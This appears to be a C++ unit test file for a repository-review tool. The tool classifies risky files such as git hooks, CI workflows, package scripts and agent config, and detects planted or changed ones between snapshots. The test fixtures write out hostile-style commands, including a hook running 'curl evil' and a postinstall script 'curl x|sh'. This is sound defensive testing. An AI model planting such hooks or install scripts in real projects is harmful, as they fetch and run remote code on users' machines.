#include "gitd/review.h"

#include <sys/stat.h>

#include <fstream>

#include "gtest/gtest.h"

namespace airlock::gitd {
namespace {

TEST(ClassifyTest, Categories) {
  EXPECT_EQ(Classify(".git/hooks/pre-commit"), "git-hook");
  EXPECT_EQ(Classify(".git/hooks/pre-commit.sample"), "");
  EXPECT_EQ(Classify(".git/config"), "git-config");
  EXPECT_EQ(Classify(".github/workflows/ci.yml"), "ci-workflow");
  EXPECT_EQ(Classify("sub/.github/workflows/x.yaml"), "ci-workflow");
  EXPECT_EQ(Classify(".gitlab-ci.yml"), "ci-workflow");
  EXPECT_EQ(Classify("Makefile"), "build-script");
  EXPECT_EQ(Classify("crates/a/build.rs"), "build-script");
  EXPECT_EQ(Classify("Cargo.toml"), "build-script");
  EXPECT_EQ(Classify("web/package.json"), "package-scripts");
  EXPECT_EQ(Classify("cmd/main.go"), "go-generate");
  EXPECT_EQ(Classify(".vscode/tasks.json"), "editor-tasks");
  EXPECT_EQ(Classify(".vscode/settings.json"), "");
  EXPECT_EQ(Classify(".idea/workspace.xml"), "editor-tasks");
  EXPECT_EQ(Classify(".claude/settings.json"), "agent-config");
  EXPECT_EQ(Classify(".codex/config.toml"), "agent-config");
  EXPECT_EQ(Classify(".envrc"), "envrc");
  EXPECT_EQ(Classify("src/main.cc"), "");
  EXPECT_EQ(Classify("README.md"), "");
}

class SnapshotTest : public ::testing::Test {
 protected:
  void SetUp() override {
    root_ = std::string(getenv("TEST_TMPDIR")) + "/" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name();
    mkdir(root_.c_str(), 0755);
  }
  void Write(const std::string& rel, const std::string& text, int mode = 0644) {
    std::string path = root_ + "/" + rel;
    for (size_t i = root_.size() + 1; i < path.size(); ++i) {
      if (path[i] == '/') mkdir(path.substr(0, i).c_str(), 0755);
    }
    std::ofstream(path) << text;
    chmod(path.c_str(), mode);
  }
  std::vector<Finding> Diff(const Snapshot& before) { return Compare(before, *TakeSnapshot({root_})); }
  std::string root_;
};

TEST_F(SnapshotTest, PlantedHookAndWorkflowAreFound) {
  Write("src/main.c", "int main(){}\n");
  Write(".git/hooks/pre-commit.sample", "#!/bin/sh\n", 0755);
  Snapshot before = *TakeSnapshot({root_});
  EXPECT_TRUE(Diff(before).empty());
  Write(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil\n", 0755);
  Write(".github/workflows/ci.yml", "on: push\n");
  Write("src/main.c", "int main(){return 1;}\n");  // ordinary edits are not findings
  auto f = Diff(before);
  ASSERT_EQ(f.size(), 3u);
  EXPECT_EQ(f[0].kind, "git-hook");
  EXPECT_EQ(f[0].change, "added");
  EXPECT_EQ(f[1].kind, "new-executable");
  EXPECT_EQ(f[1].path, f[0].path);
  EXPECT_EQ(f[2].kind, "ci-workflow");
}

TEST_F(SnapshotTest, PackageScriptsOnlyAndGoGenerateLinesOnly) {
  Write("package.json", R"({"name":"a","version":"1.0.0","scripts":{"test":"jest"}})");
  Write("main.go", "package main\n//go:generate echo hi\nfunc main(){}\n");
  Snapshot before = *TakeSnapshot({root_});
  Write("package.json", R"({"name":"a","version":"2.0.0","scripts":{"test":"jest"}})");
  Write("main.go", "package main\n//go:generate echo hi\nfunc main(){println()}\n");
  EXPECT_TRUE(Diff(before).empty()) << "version bumps and code edits are not risky";
  Write("package.json", R"({"name":"a","scripts":{"test":"jest","postinstall":"curl x|sh"}})");
  Write("main.go", "package main\n//go:generate curl x\nfunc main(){}\n");
  auto f = Diff(before);
  ASSERT_EQ(f.size(), 2u);
  EXPECT_EQ(f[0].kind, "go-generate");
  EXPECT_EQ(f[1].kind, "package-scripts");
  EXPECT_EQ(f[1].change, "modified");
}

TEST_F(SnapshotTest, NewlyExecutableRemovedAndSymlinksNotFollowed) {
  Write("tool.sh", "echo\n", 0644);
  Write("Makefile", "all:\n");
  Snapshot before = *TakeSnapshot({root_});
  chmod((root_ + "/tool.sh").c_str(), 0755);
  unlink((root_ + "/Makefile").c_str());
  symlink("/etc", (root_ + "/etc-link").c_str());
  auto f = Diff(before);
  ASSERT_EQ(f.size(), 2u);
  EXPECT_EQ(f[0].kind, "build-script");
  EXPECT_EQ(f[0].change, "removed");
  EXPECT_EQ(f[1].kind, "new-executable");
  EXPECT_EQ(f[1].change, "modified");
}

TEST_F(SnapshotTest, SerializeRoundTrip) {
  Write(".envrc", "export A=1\n");
  Snapshot s = *TakeSnapshot({root_});
  auto back = ParseSnapshot(SerializeSnapshot(s));
  ASSERT_TRUE(back.ok());
  EXPECT_TRUE(Compare(s, *back).empty());
  EXPECT_EQ(back->size(), s.size());
  EXPECT_FALSE(ParseSnapshot("not json").ok());
}

}  // namespace
}  // namespace airlock::gitd
